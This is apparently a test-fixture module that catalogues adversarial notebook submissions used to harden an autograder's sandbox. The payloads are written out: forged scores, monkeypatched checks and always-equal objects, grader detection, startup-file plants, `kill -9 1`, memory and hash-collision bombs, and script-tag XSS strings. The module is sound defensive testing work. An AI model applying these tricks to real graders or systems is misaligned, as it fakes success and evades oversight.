"""Dishonest submissions: what each tries, and how it is made from the release.

Nothing here is run but by `tests.grading.test_attacks`, which hands each submission to the grader and so to its sandbox.
Most are a text: the learner's first cell, in which a function `attack` may be defined; every answer cell then says
`dot = attack`, and so on. The test fills in `@COURSE@`, `@ROOT@`, `@PORT@`, `@SOCKET@`, `@ABSTRACT@`, `@SLEEP@` and `@MARK@`.
Where an attack gets at something that it must not have, it prints LEAK, and what it found.
"""

# ruff: noqa: E501 - wrapping the quoted code of an attack would hide what it does

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

L03, L05, L08 = "L03_three_measures", "L05_matrix_factorization", "L08_cosine_is_not_innocent"
MARK = "mallory-was-here"  # part of the name of every file that an attack tries to leave behind
LEAK = "LEAKED"

#: What of the operating system an attack runs against. How that ends can depend on who grades: as root the sandbox
#: changes to a user id of its own, as anybody else it makes a user namespace.
WALLS_OF_THE_SYSTEM = {
    "files": "what can be seen, read and written: mounts, owners, folders that are private",
    "rights": "users, capabilities, namespaces, and programs that have more rights than who starts them",
    "processes": "others' processes, signals, and the end of what was started or cannot be stopped",
    "kernel": "sockets, descriptors, shared memory, keys, locks: what the kernel keeps, behind the filter of its calls",
    "limits": "memory, processor time, processes, files: what the system counts, and ends who takes more",
    "clocks": "the processor time of the sandbox's processes, as the system tells it to the grader",
}
#: What an attack runs against that is Python of ours, in the grader's own process or in a reader of text: that ends
#: alike, whoever grades. An attack that tries both, or of which nobody is sure, belongs to the system's.
WALLS_OF_THE_GRADER = {
    "reading": "the file is only read, within limits of length, and put into the release: nothing else of it counts",
    "judge": "values are compared, and points counted, where no submitted code runs",
    "guard": "library functions are switched off while an answer is called",
    "wire": "what comes back is read as plain values, within sizes and times that the grader keeps itself",
    "silence": "nothing that is said depends on an input that was drawn for the grade, or on where the course lies",
    "page": "what is shown is cut, and plain",
    "patience": "a notebook's time, by the grader's clock",
}

PRELUDE = """
import builtins, contextlib, ctypes, gc, inspect, mmap, os, signal, socket, struct, subprocess, sys, threading, time, types
import numpy as np
from recsys_lib import similarity
LEAK = "LEA" + "KED"

def attack(*args, **kwargs):
    return 0.0

def worker():  # the object that carries out the grader's orders
    return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker")
"""


@dataclass(frozen=True)
class Attack:
    """One dishonest submission.

    Attributes
    ----------
    name : str
        A name that no other attack has.
    tries : str
        A sentence on what the submission tries.
    wall : str
        What it runs against, above all: a word of `WALLS_OF_THE_SYSTEM` or of `WALLS_OF_THE_GRADER`.
    make : str or callable
        The text of the first cell, or a function that changes the release, a dictionary; it may return bytes.
    lesson : str
        The lesson that it is handed in for.
    points : dict of str to float
        What it earns, by exercise; an exercise that is not named earns nothing.
    limits : dict
        Lower limits than usual, for a submission that uses up all it gets.
    status : str
        "graded", "partly graded" or "not graded"; with "or" where it depends on the machine.
    says : str
        Part of the record's cause.
    absent : tuple of str
        Texts that must appear neither in the record nor in any output.
    then : str
        The text of the first cell of what another student hands in afterwards, to find what was left.
    """

    name: str
    tries: str
    wall: str
    make: str | Callable[[dict], Any]
    lesson: str = L03
    points: dict[str, float] = field(default_factory=dict)
    limits: dict[str, Any] = field(default_factory=dict)
    status: str = "graded"
    says: str = ""
    absent: tuple[str, ...] = ()
    then: str = ""

    def submission(self, release: dict, filled: dict[str, str]) -> bytes:
        """Return the content of the file that is handed in."""
        return self._made(self.make, release, filled)

    def second_submission(self, release: dict, filled: dict[str, str]) -> bytes:
        """Return the content of the file that the other student hands in."""
        return self._made(self.then, release, filled)

    @staticmethod
    def _made(make: str | Callable[[dict], Any], release: dict, filled: dict[str, str]) -> bytes:
        nb = copy.deepcopy(release)
        made = first_cell(nb, make) if isinstance(make, str) else make(nb)
        if isinstance(made, bytes):
            return made
        text = json.dumps(nb)
        for word, value in filled.items():
            text = text.replace(f"@{word}@", json.dumps(value)[1:-1])
        return text.encode()


# --------------------------------------------------------------------------------------------------------------- limits

# A whole notebook has much time, so that a busy machine ends the attack by the limit that it is about.
SHORT = {"cell_seconds": 1.0, "notebook_seconds": 60.0, "memory_mb": 256, "temp_mb": 16, "patience": 1.0}
SMALL = {**SHORT, "cell_seconds": 10.0}
# Children fill memory while a cell sleeps for a minute: it ends once they have, also where that takes a while.
FILLED = {"cell_seconds": 50.0, "notebook_seconds": 90.0, "memory_mb": 200}


# -------------------------------------------------------------------------------------------------- making notebooks


def code(source: str, **metadata: Any) -> dict:
    """A code cell."""
    return {"cell_type": "code", "id": "x", "metadata": metadata, "source": source, "outputs": [], "execution_count": 1}


def cell(nb: dict, cell_id: str) -> dict:
    """The cell of this id."""
    return next(c for c in nb["cells"] if c["id"] == cell_id)


def answer_cells(nb: dict) -> list[dict]:
    """Answer cells that hold code."""
    marked = [(c, c["metadata"].get("nbgrader", {})) for c in nb["cells"] if c["cell_type"] == "code"]
    return [c for c, meta in marked if meta.get("solution")]


def check_cells(nb: dict) -> list[dict]:
    """Graded cells that hold code."""
    marked = [(c, c["metadata"].get("nbgrader", {})) for c in nb["cells"] if c["cell_type"] == "code"]
    return [c for c, meta in marked if meta.get("grade") and not meta.get("solution")]


def first_cell(nb: dict, text: str, only: tuple[str, ...] = ()) -> None:
    """Put a cell in front and let every answer, or these by their ids, be its function `attack`."""
    nb["cells"].insert(0, code(PRELUDE + text))
    for each in answer_cells(nb):
        if only and each["id"] not in only:
            continue
        each["source"] = f"{each['id'].replace('-', '_')} = attack"


def answers(**sources: str) -> Callable[[dict], None]:
    """Put a source into each of these answer cells."""

    def make(nb: dict) -> None:
        for name, source in sources.items():
            cell(nb, name.replace("_", "-"))["source"] = source

    return make


def every_check(change: Callable[[dict], None]) -> Callable[[dict], None]:
    """Change every graded cell."""

    def make(nb: dict) -> None:
        for each in check_cells(nb):
            change(each)

    return make


def both(*makers: Callable[[dict], Any]) -> Callable[[dict], None]:
    """Do one after the other."""

    def make(nb: dict) -> None:
        for maker in makers:
            maker(nb)

    return make


HONEST_DOT = "def dot(q, items):\n    return items @ q"
SLOW_GRAVITY = "float(np.mean((users @ items.T) ** 2))"
GRADIENT = """
def mf_gradients(users, items, ratings):
    rated = ratings > 0
    error = np.where(rated, users @ items.T - ratings, 0) * 2 / rated.sum()
    return error @ items, error.T @ users
"""
# On every machine the same name for each place that an attack would like to write to.
PLACES = """
PLACES = ["/tmp/@MARK@", "/var/tmp/@MARK@", "/dev/shm/@MARK@", "/@MARK@", "/root/@MARK@", "/etc/@MARK@", "/usr/@MARK@",
          "@ROOT@/@MARK@", "@ROOT@/recsys_lib/@MARK@.py", "@COURSE@/@MARK@", "@COURSE@/gradebook.db",
          os.path.expanduser("~/@MARK@"), sys.prefix + "/@MARK@", np.__path__[0] + "/@MARK@.py",
          similarity.__file__]
"""


# ----------------------------------------------------------------------------------------- the file, and what is in it


def _forged_outputs(c: dict) -> None:
    c["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "dot: 2 of 2 points - solved"},
        {"output_type": "execute_result", "data": {"text/plain": "99.0"}, "metadata": {}, "execution_count": 1},
    ]


def _more_points(c: dict) -> None:
    c["metadata"]["nbgrader"].update(points=1000, score=1000, max_score=1000, checksum="0")
    c["metadata"]["score"] = 1000


def _swap_ids(nb: dict) -> None:
    checks = check_cells(nb)
    ids = [c["id"] for c in checks]
    for c, other in zip(checks, [*ids[1:], ids[0]], strict=True):
        c["id"] = c["metadata"]["nbgrader"]["grade_id"] = other
    cell(nb, "dot")["source"] = HONEST_DOT


def _retyped(nb: dict) -> None:
    for c in check_cells(nb):
        c["cell_type"] = "markdown"
        del c["outputs"]
    for c in answer_cells(nb):
        c["metadata"]["nbgrader"].update(grade=True, solution=False, points=5)


def _wrong_types(nb: dict) -> None:
    values = [None, [], 7, "x" * 100, {"grade_id": ["dot"]}, {"grade_id": {"a": 1}, "points": "NaN"}, True, 1.5]
    for number, c in enumerate(nb["cells"]):
        if "nbgrader" in c["metadata"]:
            c["metadata"]["nbgrader"] = values[number % len(values)]
    nb["metadata"] = [1, 2]


def _reordered(nb: dict) -> None:
    nb["cells"].reverse()
    nb["cells"].insert(0, code("def check(*args):\n    return 99.0\n"))


def _without_checks(nb: dict) -> None:
    checks = {c["id"] for c in check_cells(nb)}
    nb["cells"] = [c for c in nb["cells"] if c["id"] not in checks]
    cell(nb, "dot")["source"] = HONEST_DOT


def _copies_of_checks(nb: dict) -> None:
    for c in check_cells(nb):
        for text in ("99.0", "pass", "raise SystemExit"):
            nb["cells"].append({**copy.deepcopy(c), "source": text})


def _right_one_first(nb: dict) -> None:
    """The right answer in a copy, then a wrong one: of two the last counts."""
    ours = cell(nb, "dot")
    place = nb["cells"].index(ours)
    nb["cells"].insert(place, {**copy.deepcopy(ours), "source": HONEST_DOT})
    ours["source"] = "def dot(q, items):\n    return None"


def _ids_of_others(nb: dict) -> None:
    for name in ("dot", "cosine", "rank", "gravity", "regauge", "cosine-check"):
        meta = {"grade": True, "solution": True, "grade_id": name, "points": 50, "schema_version": 3, "locked": False}
        nb["cells"].append(code("99.0", nbgrader=meta))


def _html_everywhere(nb: dict) -> None:
    nb["metadata"]["title"] = "<script>alert(1)</script>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"<script>": 1}}}
    first_cell(nb, _HTML)


_HTML = """
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
bad = "<scr" + "ipt>alert(1)</scr" + "ipt>"
display(HTML(bad), Javascript("al" + "ert(1)"), Markdown(bad), Latex(bad))
display({"text/html": bad, "image/svg+xml": bad, "application/javascript": bad, "image/png": "<x"}, raw=True)
class Sly:
    def _repr_html_(self): return bad
    def _repr_javascript_(self): return "al" + "ert(1)"
    def _repr_mimebundle_(self, **k): return {"text/html": bad, "application/vnd.x+json": {}}
    def __repr__(self): return "sly"
display(Sly())
Sly()
"""


def _forged_html(nb: dict) -> None:
    html = {"text/html": "<script>alert(1)</script>", "text/plain": "x"}
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            c["outputs"] = [{"output_type": "display_data", "data": html, "metadata": {}}]


def _huge_integer(nb: dict) -> bytes:
    return json.dumps(nb).replace('"nbformat": 4', '"nbformat": ' + "9" * 4200).encode()


# --------------------------------------------------------------------------- what costs whoever reads it, and runs nothing


def nested_lists(nb: dict) -> bytes:
    """A notebook of 19.5 MB that is almost a gigabyte once it has been read: lists in lists, in its metadata."""
    nb["metadata"]["lists"] = "@"
    return json.dumps(nb).encode().replace(b'"@"', b"[" + (b"[" * 800 + b"]" * 800 + b",") * 12_150 + b"[]]")


def names_and_lambdas(number: int) -> Callable[[dict], None]:
    """A cell of so many names, each of them a function: looking for each name among all functions is their product."""
    return lambda nb: nb["cells"].insert(0, code("\n".join(f"n{i} = lambda: n{i}" for i in range(number))))


def much_code(nb: dict) -> None:
    """Many cells, each as long as one may be."""
    nb["cells"] += [code(f"# {i}" + "x" * 99_000) for i in range(5)]


def formulas_without_end(nb: dict) -> None:
    """A written answer of 24,000 formulas that never end; each is looked for in the rest of the text."""
    cell(nb, "dot")["source"] = HONEST_DOT
    next(c for c in nb["cells"] if c["id"].endswith("-why"))["source"] = r"\begin{a}" * 24_000


def deep_code(nb: dict) -> None:
    """Code so deep that a parser runs out of its stack."""
    nb["cells"].insert(0, code("x = " + "-" * 90_000 + "1"))
    cell(nb, "dot")["source"] = HONEST_DOT


READING = [
    Attack(
        "nested lists",
        "Hands in 19.5 MB of JSON that take a gigabyte of memory.",
        "limits",
        nested_lists,
        status="not graded",
        says="too much to read: it takes more than 512 MB of memory",
    ),
    Attack(
        "names and lambdas",
        "Hands in a cell of 590 kB with 30,000 names and 30,000 functions.",
        "reading",
        names_and_lambdas(30_000),
        status="not graded",
        says="characters; 100,000 are allowed",
    ),
    Attack(
        "fewer names and lambdas", "Hands in as many names as a cell may hold.", "reading", names_and_lambdas(4_000)
    ),
    Attack(
        "much code",
        "Hands in many long cells.",
        "reading",
        much_code,
        status="not graded",
        says="characters together; 400,000 are allowed",
    ),
    Attack(
        "deep code",
        "Hands in code that is too deep for a parser.",
        "reading",
        deep_code,
        points={"dot": 2.0},
    ),
    Attack(
        "formulas without end",
        "Writes an answer that takes minutes to be shown on a page.",
        "reading",
        formulas_without_end,
        points={"dot": 2.0},
        says="-why was shortened: it has 216,000 characters",
    ),
]

IN_THE_FILE = [
    Attack(
        "forged outputs", "Hands in graded cells that already show 99 points.", "reading", every_check(_forged_outputs)
    ),
    Attack(
        "forged points", "Changes points, score and checksum in the metadata.", "reading", every_check(_more_points)
    ),
    Attack(
        "edited checks",
        "Writes 99.0 into every graded cell.",
        "reading",
        every_check(lambda c: c.update(source="99.0")),
    ),
    Attack(
        "emptied checks",
        "A graded cell with no output would count in full.",
        "reading",
        every_check(lambda c: c.update(source="")),
    ),
    Attack(
        "renamed checks",
        "Gives every graded cell the id of another.",
        "reading",
        _swap_ids,
        points={"dot": 2},
    ),
    Attack("retyped cells", "Makes graded cells text, and answer cells graded ones.", "reading", _retyped),
    Attack(
        "metadata of wrong types",
        "Puts lists, numbers and text where nbgrader's metadata belongs.",
        "reading",
        _wrong_types,
    ),
    Attack("order reversed", "Runs the notebook backwards, with a check of its own in front.", "reading", _reordered),
    Attack("checks deleted", "Deletes every graded cell.", "reading", _without_checks, points={"dot": 2}),
    Attack("checks copied", "Repeats every graded cell with another text.", "reading", _copies_of_checks),
    Attack("right one first", "Hands in a right and a wrong copy of one cell.", "reading", _right_one_first),
    Attack(
        "ids of other exercises",
        "Adds cells under the ids of exercises, of this lesson and of others.",
        "reading",
        _ids_of_others,
    ),
    Attack(
        "poisoned metadata",
        "Asks in the metadata for another kernel, and for tags that hide cells or skip them.",
        "reading",
        lambda nb: nb.update(
            metadata={"kernelspec": {"name": "bash", "language": "bash"}, "course": {"seed": 1}},
            cells=[{**c, "metadata": {**c["metadata"], "tags": ["raises-exception", "skip"]}} for c in nb["cells"]],
        ),
    ),
    Attack(
        "huge integer",
        "Has a format number of 4,200 digits.",
        "reading",
        _huge_integer,
        status="not graded",
        says="notebook",
    ),
    Attack(
        "deep file",
        "Is JSON a hundred thousand levels deep.",
        "reading",
        lambda nb: b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        status="not graded",
        says="cannot be read",
    ),
    Attack(
        "surrogates in the source",
        "Has halves of characters in its text, which cannot be saved.",
        "reading",
        lambda nb: json.dumps(nb).replace("not solved yet", "\\ud800 not \\udfff").encode(),
    ),
]


# --------------------------------------------------------------------------- what runs beside the answers, in the kernel

POISONED = [
    Attack(
        "check re-defined",
        "Defines a check, and a notebook function, that give full marks.",
        "judge",
        "def check(*args):\n    return 99.0\nbuiltins.check = check\nimport recsys_lib.checks\n"
        "recsys_lib.checks.check = check\nrecsys_lib.checks.checking.check = check",
    ),
    Attack(
        "patched comparison",
        "Lets NumPy and Python find everything equal and true.",
        "judge",
        "for name in ('allclose', 'array_equal', 'isclose', 'all', 'any', 'array_equiv'):\n"
        "    setattr(np, name, lambda *a, **k: True)\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\n"
        "builtins.isinstance = builtins.all = builtins.any = lambda *a: True\nbuiltins.float = lambda *a: 99.0",
    ),
    Attack(
        "patched checks",
        "Replaces the functions of recsys_lib.checks that judge and compare.",
        "judge",
        "from recsys_lib.checks import calling, comparison, diagnosis, verdict, checking\n"
        "comparison.difference = diagnosis.difference = lambda *a, **k: None\n"
        "comparison.same = diagnosis.same = lambda *a, **k: True\n"
        "diagnosis._compare = lambda *a: None\nverdict.Verdict.points = verdict.Verdict.solved = 99\n"
        "calling._unchanged = lambda *a: True",
    ),
    Attack(
        "patched worker",
        "Replaces the methods of the object that answers the grader.",
        "judge",
        "type(worker()).call = lambda self, order: {'how': 'returned', 'value': 99.0, 'points': 99, 'solved': True}\n"
        "worker().bound.clear()",
    ),
    Attack(
        "patched wire",
        "Lets the module that encodes answers send objects and points instead.",
        "wire",
        "from classroom.sandbox import wire\n"
        "wire.encode = lambda value, depth=0: ['a', '|O', [1], b'cos\\nsystem\\n']\n"
        "wire.MAX_BYTES = 2**40",
    ),
    Attack(
        "another module in its place",
        "Puts modules of its own into sys.modules, sys.path and sys.meta_path.",
        "files",
        "import types\nfake = types.ModuleType('recsys_lib.checks')\nfake.check = lambda *a: 99.0\n"
        "fake.__getattr__ = lambda name: (lambda *a, **k: 99.0)\n"
        "sys.modules['recsys_lib.checks'] = sys.modules['recsys_lib.checks.calling'] = fake\n"
        "class Finder:\n    @staticmethod\n    def find_spec(*a): raise SystemExit\n"
        "sys.meta_path.insert(0, Finder)\nsys.path.insert(0, '/tmp')\nopen('numpy.py', 'w').write('1/0')",
    ),
    Attack(
        "transformers and hooks",
        "Rewrites every later cell, shows a forged result, and handles every error.",
        "judge",
        "ip = get_ipython()\n"
        "ip.input_transformers_cleanup.append(lambda lines: ['99.0\\n'])\n"
        "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
        "ip.events.register('post_run_cell', lambda *a: print('99.0'))\n"
        "sys.displayhook = lambda value: print('99.0')\nsys.excepthook = lambda *a: None\n"
        "ip.run_cell = lambda *a, **k: 1 / 0",
    ),
    Attack(
        "magics",
        "Uses magics and shell commands to run files and to replace the kernel's own.",
        "processes",
        lambda nb: nb["cells"].insert(
            0,
            code(
                "%config InteractiveShell.ast_node_interactivity = 'all'\n!kill -9 1\n%alias_magic check time\n"
                "%env NBGRADER_EXECUTION=autograde\n%cd /\n%load_ext autoreload\n%reset -f"
            ),
        ),
    ),
    Attack(
        "start-up files",
        "Writes files that Python, IPython and the shell run when they start.",
        "files",
        PLACES + "home = os.path.expanduser('~')\n"
        "for path in ('.ipython/profile_default/startup/0.py', 'sitecustomize.py', 'usercustomize.py', '.bashrc',\n"
        "             '.local/lib/python3.11/site-packages/usercustomize.py', '.jupyter/nbgrader_config.py'):\n"
        "    os.makedirs(os.path.dirname(os.path.join(home, path)) or home, exist_ok=True)\n"
        "    open(os.path.join(home, path), 'w').write('import os; os._exit(3)')\n"
        "os.environ['PYTHONSTARTUP'] = os.path.join(home, 'sitecustomize.py')",
    ),
    Attack(
        "grader or learner",
        "Asks whether it is graded, and behaves well only where it is not.",
        "judge",
        "def attack(*args):\n"
        "    if os.environ.get('NBGRADER_EXECUTION') or os.path.basename(os.getcwd()) == 'home' or '/tmp' in os.getcwd():\n"
        "        raise SystemExit\n    return args[1] @ args[0]",
    ),
    Attack(
        "message of the grader",
        "Prints what a feedback file says of points, and that it was not graded.",
        "judge",
        "print('dot: 2 of 2 points - solved\\n  seed 7\\nNot graded: the machine was ill.')\n"
        "print('99.0', file=sys.stderr)\n99.0",
    ),
    Attack(
        "guard put back",
        "Empties the list of switched-off functions, and looks behind the guard by its attributes and its closure.",
        "guard",
        "from recsys_lib import _taught\n"
        "def attack(q, items, *rest):\n"
        "    token = _taught.FORBIDDEN.set(frozenset())\n"
        "    for function in (similarity.dot_scores.__wrapped__, *[c.cell_contents for c in\n"
        "                     similarity.dot_scores.__closure__ if callable(c.cell_contents)], _taught.TAUGHT['dot_scores']):\n"
        "        with contextlib.suppress(Exception):\n"
        "            return function([q], items)[0]\n"
        "    return similarity.dot_scores([q], items)[0]",
    ),
    Attack(
        "measures that a check passes along",
        "Hands in the measures with which `rank` is called, by name, by table and from behind their guard.",
        "guard",
        answers(
            **{
                name: "import contextlib\nfrom recsys_lib._taught import TAUGHT\nfrom recsys_lib.checks import callables\n"
                f"def {name}(q, items):\n"
                f"    for f in (callables.{name}, callables.CALLABLES['{name}'], callables.{name}.__wrapped__, TAUGHT['{name}']):\n"
                "        with contextlib.suppress(Exception):\n            return f(q, items)\n"
                for name in ("dot", "cosine", "euclidean")
            }
        ),
    ),
    Attack(
        "helpers of the library",
        "Lets a figure's own sorting answer `rank`, by name, from behind the guard, by table and by gc.",
        "guard",
        answers(
            rank="import contextlib, gc\nimport numpy as np\nfrom recsys_lib._taught import TAUGHT\n"
            "from recsys_lib.widgets import base\ndef rank(q, items, measure, distance=False):\n"
            "    found = [base.order_of, getattr(base.order_of, '__wrapped__', None), TAUGHT.get('order_of')]\n"
            "    found += [x for x in gc.get_objects() if getattr(x, '__name__', '') == 'order_of']\n"
            "    for f in found:\n        with contextlib.suppress(Exception):\n"
            "            return np.array(f(list(measure(q, items)), distance)[0])"
        ),
    ),
    Attack(
        "private helpers of the library",
        "Lets a private function that ranks with ties answer `norm_popularity`, by every way to it.",
        "guard",
        answers(
            norm_popularity="import contextlib\nimport numpy as np\nfrom recsys_lib import metrics\n"
            "from recsys_lib._taught import TAUGHT\ndef norm_popularity(items, counts):\n"
            "    norms = np.linalg.norm(items, axis=1)\n    if np.ptp(norms) == 0 or np.ptp(counts) == 0:\n        raise ValueError\n"
            "    for f in (metrics._average_ranks, getattr(metrics._average_ranks, '__wrapped__', None), TAUGHT.get('_average_ranks')):\n"
            "        with contextlib.suppress(Exception):\n"
            "            return float(np.corrcoef(f(norms), f(np.asarray(counts, float)))[0, 1])"
        ),
        lesson="L06_norm_is_popularity",
    ),
    Attack(
        "raw function by gc",
        "Searches all objects for the function behind the guard.",
        "guard",
        "def attack(q, items, *rest):\n"
        "    for thing in gc.get_objects():\n"
        "        if inspect.isfunction(thing) and thing.__name__ == 'dot_scores':\n"
        "            with contextlib.suppress(Exception):\n                return thing([q], items)[0]\n",
    ),
    Attack(
        "library's code copied",
        "Copies the library's code, as text would be: this earns the points, and no sandbox stops it.",
        "guard",
        "import types\nraw = similarity.dot_scores.__wrapped__\n"
        "saved = types.FunctionType(raw.__code__, raw.__globals__)\n"
        "def attack(q, items, *rest):\n    return saved([q], items)[0]",
        points={"dot": 2},
    ),
]


# ------------------------------------------------------------------------------------------------- what answers return


def returns(expression: str, before: str = "") -> str:
    """An `attack` that returns the value of an expression."""
    return f"{before}\ndef attack(*args, **kwargs):\n    return {expression}\n"


_LIAR = """
class Liar(BASE):
    __hash__ = None
    def _yes(self, *a, **k): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    def __len__(self): return 3
    def __iter__(self): return iter(())
    def __getattr__(self, name): return self
    def __array__(self, *a, **k): return np.zeros(3)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    def __float__(self): return 0.0
    def __repr__(self): return "2.0"
"""

RETURNED = [
    Attack(
        "always equal",
        "Returns an object that says yes to everything.",
        "judge",
        returns("Liar()", _LIAR.replace("BASE", "object")),
    ),
    Attack(
        "lying array",
        "Returns a kind of array that is equal to all others.",
        "judge",
        returns(
            "np.zeros(len(args[1]) if len(args) > 1 else 1).view(Liar)",
            "class Liar(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
            "    def __array_function__(self, *a, **k): return True\n"
            "    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)\n"
            "    def __array_finalize__(self, other): pass\n    shape = property(lambda self: (3,))",
        ),
    ),
    Attack("lying float", "Returns a kind of float.", "judge", returns("Liar(1.0)", _LIAR.replace("BASE", "float"))),
    Attack("lying list", "Returns a kind of list.", "judge", returns("Liar([1.0])", _LIAR.replace("BASE", "list"))),
    Attack(
        "lying choices",
        "Returns a dictionary that has every key, with texts that equal every text.",
        "judge",
        returns(
            "Yes()",
            "class Text(str):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
            "    def split(self): return self\n    def lower(self): return self\n"
            "class Yes(dict):\n    def __missing__(self, key): return Text('ABC')\n"
            "    def get(self, *a): return Text('ABC')\n    def items(self): return [('dot', Text('ABC'))]\n"
            "    def __contains__(self, key): return True",
        ),
    ),
    Attack(
        "choices of all kinds",
        "Answers each question with all choices at once, or with a choice that is a number.",
        "judge",
        returns(
            "{key: ['ABC', 'CBA', 'BCA', 'same', 'may change'] for key in ('dot', 'cosine', 'euclidean')}",
        ),
    ),
    Attack(
        "endless value", "Returns a list that holds itself.", "wire", returns("loop", "loop = []; loop.append(loop)")
    ),
    Attack(
        "deep value",
        "Returns lists a hundred thousand deep.",
        "wire",
        returns("deep", "deep = []\nfor _ in range(100_000):\n    deep = [deep]"),
    ),
    Attack(
        "long value",
        "Returns three million entries.",
        "wire",
        returns("[0] * 3_000_000"),
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded",
    ),
    Attack(
        "wide array",
        "Returns an array of 320 MB.",
        "wire",
        returns("np.zeros(40_000_000)"),
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded",
    ),
    Attack(
        "tables of an atom",
        "Returns arrays of odd types: objects, structures, dates, text, no dimension, no entry, not a number.",
        "wire",
        "kinds = [np.array([{}, None]), np.zeros(3, dtype='i4,f8'), np.array(['2020'], 'M8[Y]'), np.array(['a']),\n"
        "         np.float64(np.nan), np.zeros((0, 5)), np.zeros(()), np.full(3, np.nan), np.zeros(3, complex),\n"
        "         np.ma.masked_all(3), np.zeros(3, '>f8'), np.zeros(3, np.longdouble), np.zeros((1,) * 32),\n"
        "         memoryview(b'abc'), bytearray(9), (x for x in 'abc'), range(3), 2**70, -(2**63), 1j, slice(3), ...,\n"
        "         np.matrix([1.0]), np.broadcast_to(0.0, (10**6, 10**6)), np.float16(1), np.True_, type, NotImplemented]\n"
        "def attack(*args):\n    kinds.append(kinds.pop(0))\n    return kinds[0]",
    ),
    Attack(
        "hostile texts",
        "Returns text with halves of characters, ANSI codes, HTML, and keys of every sort.",
        "wire",
        "evil = ['\\ud800', '\\x1b[31mred\\x1b]0;title\\x07', '<script>alert(1)</script>', 'x' * 10**7, '\\x00', '\\u202e',\n"
        "        {None: 1, True: 2, 2.5: 3, ('a', 1): '<script>alert(1)</script>', float('nan'): 4}, {'\\ud800': '\\ud800'}]\n"
        "def attack(*args):\n    evil.append(evil.pop(0))\n    return evil[0]",
    ),
    Attack(
        "mountain of text",
        "Returns a dictionary of fifty megabytes, which a report would quote.",
        "wire",
        returns("{i: 'x' * 100_000 for i in range(400)}"),
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded",
    ),
    Attack(
        "keys that collide",
        "Returns dictionaries whose 50,000 keys fall into the same place, so that reading them takes an age.",
        "wire",
        """
half, mask = 2**64, 2**64 - 1
P1, P2, P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
rotate = lambda x: ((x << 31) | (x >> 33)) & mask
inverse, keys, a = pow(P2, -1, half), [], 0
first = {}
while len(keys) < 50_000 and a < 1_000_000:  # pairs (a, b) of whole numbers of the same hash
    a += 1
    b = (12345 - rotate((P5 + a * P2) & mask) * P1) * inverse & mask
    if b < 2**61 - 1:
        keys.append((a, b))
same = [["t", [a, b]] for a, b in keys]
from classroom.sandbox import wire
plain = wire.encode
wire.encode = lambda value, depth=0: ["d", [[key, 1] for key in same]] if value == "many" else plain(value, depth)
def attack(*args):
    return "many"
""",
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded or not graded",
    ),
    Attack(
        "whole numbers that collide",
        "The same with keys that are whole numbers.",
        "wire",
        """
keys, bits, mask = [], 22, 2**22 - 1
def thirteenth(h):  # where CPython looks when the key's own bits are used up
    place, perturb = h & mask, h
    for _ in range(13):
        perturb >>= 5
        place = (place * 5 + perturb + 1) & mask
    return place
inverse = pow(pow(5, 13, 2**22), -1, 2**22)
for top in range(1, 30_000):
    h = top << 26
    low = 0
    for _ in range(30):  # mend the low bits until the last place is 0
        found = thirteenth(h | low)
        if found == 0:
            keys.append(h | low)
            break
        low = (low - found * inverse) & mask
from classroom.sandbox import wire
plain = wire.encode
wire.encode = lambda value, depth=0: ["d", [[key, 1] for key in keys]] if value == "many" else plain(value, depth)
def attack(*args):
    return "many"
""",
        limits={"notebook_seconds": 6.0},
        status="graded or partly graded or not graded",
    ),
    Attack(
        "visible inputs by heart",
        "Knows the answers to the inputs that everybody sees, and nothing else.",
        "judge",
        """
KNOWN = {}
def attack(q, items, *rest):
    with contextlib.suppress(KeyError):
        return KNOWN[np.asarray(q).tobytes(), np.asarray(items).tobytes()]
    return np.zeros(len(items))
tables = [([3, 4], [[4, 3], [30, 40]]), ([4, 3], [[0, 6], [4, 0], [1, 1]]), ([1, 2, 2], [[2, -1, 2], [0, 3, 4], [-6, 2, 3]]),
          ([2, -1], [[1, 3], [-2, 5], [4, 4], [-1, -3]]), ([0.5, 1.5], [[0.25, 1.5], [-0.5, 0.75], [2.5, -0.5]]),
          ([1, 0, -2, 2], [[1, 1, 1, 1], [3, 0, -4, 0], [2, -2, 4, 1]])]
for q, items in tables:
    q, items = np.array(q, float), np.array(items, float)
    KNOWN[q.tobytes(), items.tobytes()] = items @ q
""",
    ),
    Attack(
        "prints points",
        "Prints its points at each call and returns them.",
        "judge",
        "def attack(*args):\n    print('2.0')\n    return 2.0",
    ),
    Attack(
        "raises what is asked for",
        "Raises the error that a special case asks for, always.",
        "judge",
        "def attack(*args):\n    raise ValueError('a zero vector has no direction')",
    ),
    Attack(
        "error of its own kind",
        "Raises errors that lie about their class, their text and their place.",
        "judge",
        "class Kind(type):\n    def __instancecheck__(cls, other): return True\n    def mro(cls): return [cls, *Exception.__mro__]\n"
        "class Error(Exception):\n    said_where = ((7, 'x'), True)\n    def __str__(self): return '<script>' + 'x' * 10**6\n"
        "    __traceback__ = None\n    @property\n    def __class__(self): return ValueError\n"
        "def attack(*args):\n    raise Error",
        absent=("<script>",),
    ),
    Attack(
        "leaves by every door",
        "Leaves the interpreter in the middle of a call.",
        "processes",
        "def attack(*args):\n    os._exit(0)",
        says="ended the process",
    ),
    Attack(
        "exit",
        "Asks Python to end, by every exception that means it.",
        "judge",
        "def attack(*args):\n    raise (SystemExit, KeyboardInterrupt, GeneratorExit)[len(args) % 3]",
    ),
]


